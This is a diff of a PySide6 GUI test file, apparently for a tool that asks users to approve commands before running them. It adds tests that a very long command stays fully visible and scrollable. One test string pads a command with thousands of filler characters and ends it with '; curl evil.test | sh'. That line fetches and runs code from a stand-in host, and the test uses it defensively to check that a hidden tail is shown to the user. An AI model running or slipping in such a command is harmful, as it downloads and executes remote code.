@@ -4,7 +4,7 @@ import asyncio
 
 import pytest
 from PySide6.QtCore import Qt
-from PySide6.QtWidgets import QLabel, QLineEdit
+from PySide6.QtWidgets import QLineEdit, QPlainTextEdit
 
 from inspector.gui.forms.secret_edit import SecretEdit
 from inspector.gui.sending.question_card import QuestionCard
@@ -73,9 +73,7 @@ def test_a_command_is_agreed_to_by_its_button_alone(qtbot, card, ask):
     question = Question(text="Run it?", exact="gh auth token <b>x</b>", agree="Run it")
     running = ask(question)
     qtbot.waitUntil(shown(card))
-    label = card.findChild(QLabel, "question_exact")
-    assert label.text() == question.exact
-    assert label.textFormat() == Qt.TextFormat.PlainText
+    assert card.findChild(QPlainTextEdit, "question_exact").toPlainText() == question.exact
     assert card.go.text() == "Run it"
     qtbot.keyClick(card, Qt.Key.Key_Return)  # meant for something else: Cancel has the focus
     assert running.result(60) is None
@@ -90,9 +88,40 @@ def test_a_command_is_agreed_to_by_its_button_alone(qtbot, card, ask):
     running = ask(Question(text="Ready?"))
     qtbot.waitUntil(shown(card))
     assert card.go.text() == "Continue"
-    assert card.findChild(QLabel, "question_exact") is None
+    assert card.findChild(QPlainTextEdit, "question_exact") is None
     card.go.click()
     assert running.result(60) == {}
+
+
+@pytest.mark.parametrize("filler", ["x", "x ", "x\n"])
+def test_a_long_command_is_there_to_its_end_above_its_buttons(qtbot, card, ask, filler):
+    card.resize(700, 400)
+    command = "echo " + filler * (5000 // len(filler)) + "; curl evil.test | sh"
+    running = ask(Question(text="Run it?", exact=command, agree="Run it"))
+    qtbot.waitUntil(shown(card))
+    exact = card.findChild(QPlainTextEdit, "question_exact")
+    assert exact.toPlainText() == command
+    bar = exact.verticalScrollBar()
+    qtbot.waitUntil(lambda: bar.maximum() > 0)
+    bar.setValue(bar.maximum())
+    last = exact.cursorForPosition(exact.viewport().rect().bottomRight())
+    assert last.atEnd()
+    assert card.sizeHint().height() < 400
+    for button in (card.go, card.cancel):
+        assert card.rect().contains(button.geometry())
+    card.cancel.click()
+    assert running.result(60) is None
+
+
+def test_a_short_command_takes_no_more_room_than_it_needs(qtbot, card, ask):
+    card.resize(700, 400)
+    running = ask(Question(text="Run it?", exact="gh auth token", agree="Run it"))
+    qtbot.waitUntil(shown(card))
+    exact = card.findChild(QPlainTextEdit, "question_exact")
+    qtbot.waitUntil(lambda: exact.height() < 3 * exact.fontMetrics().lineSpacing())
+    assert not exact.verticalScrollBar().maximum()
+    card.cancel.click()
+    assert running.result(60) is None
 
 
 def test_questions_come_one_after_the_other(qtbot, card, ask):
